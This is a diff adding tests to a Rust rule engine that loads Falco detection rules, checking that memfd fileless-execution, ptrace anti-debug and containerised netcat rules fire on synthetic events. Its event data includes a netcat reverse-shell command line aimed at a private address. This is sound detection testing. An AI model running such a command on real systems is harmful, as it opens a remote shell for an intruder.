@@ -3,6 +3,9 @@
 
 use std::path::PathBuf;
 
+mod common;
+
+use common::Ev;
 use vigil_rules::{DiagKind, LoadOptions, RuleSet};
 
 fn falco_rules() -> PathBuf {
@@ -74,4 +77,61 @@ fn falco_stable_rules_strict_mode_fails_naming_each_rule() {
     assert!(!d.is_empty());
     assert!(d.iter().all(|d| d.kind == DiagKind::Unsupported), "{err}");
     assert!(d[0].message.contains("is not supported"), "{}", d[0]);
+}
+
+fn fired(set: &RuleSet, ev: &Ev) -> Vec<String> {
+    set.matching(ev).map(|r| r.name().to_owned()).collect()
+}
+
+#[test]
+fn falco_rules_fire_on_matching_events_and_not_on_near_misses() {
+    let (set, _) = RuleSet::load_paths(&[falco_rules()], &LoadOptions::default()).unwrap();
+    // runc re-executing itself from a memfd is excepted by Falco's own list.
+    let memfd = |name: &str| {
+        Ev::new("execve")
+            .s("proc.name", name)
+            .s("proc.pname", "containerd-shim")
+            .b("proc.is_exe_from_memfd", true)
+            .s("container.id", "0123456789ab")
+    };
+    assert_eq!(
+        fired(&set, &memfd("x")),
+        ["Fileless execution via memfd_create"]
+    );
+    assert!(fired(&set, &memfd("runc")).is_empty());
+    let ptrace = |req: &str| {
+        Ev::new("ptrace")
+            .s("proc.name", "a.out")
+            .s("evt.arg.request", req)
+    };
+    assert_eq!(
+        fired(&set, &ptrace("PTRACE_TRACEME")),
+        ["PTRACE anti-debug attempt"]
+    );
+    assert!(fired(&set, &ptrace("PTRACE_PEEKDATA")).is_empty());
+    let nc = |cmd: &str, cid: &str| {
+        Ev::new("execve")
+            .s("proc.name", "nc")
+            .s("proc.cmdline", cmd)
+            .s("proc.args", cmd.trim_start_matches("nc "))
+            .s("container.id", cid)
+    };
+    assert_eq!(
+        fired(&set, &nc("nc -e /bin/sh 10.0.0.1 4444", "0123456789ab")),
+        ["Netcat Remote Code Execution in Container"]
+    );
+    assert!(
+        fired(&set, &nc("nc -e /bin/sh 10.0.0.1 4444", "host")).is_empty(),
+        "not in a container"
+    );
+    assert!(fired(&set, &nc("nc -l 8080", "0123456789ab")).is_empty());
+    // Output renders vigil's fields and <NA> for Falco-only ones.
+    let ev = ptrace("PTRACE_TRACEME")
+        .n("user.uid", 0)
+        .s("proc.cmdline", "a.out");
+    let r = set.matching(&ev).next().unwrap();
+    let out = r.format_output(&ev);
+    assert!(out.starts_with("Detected potential PTRACE_TRACEME anti-debug attempt | proc_pcmdline=<NA> evt_type=ptrace user=<NA> user_uid=0"), "{out}");
+    assert_eq!(r.priority().as_str(), "Notice");
+    assert!(r.tags().iter().any(|t| t == "T1622"));
 }
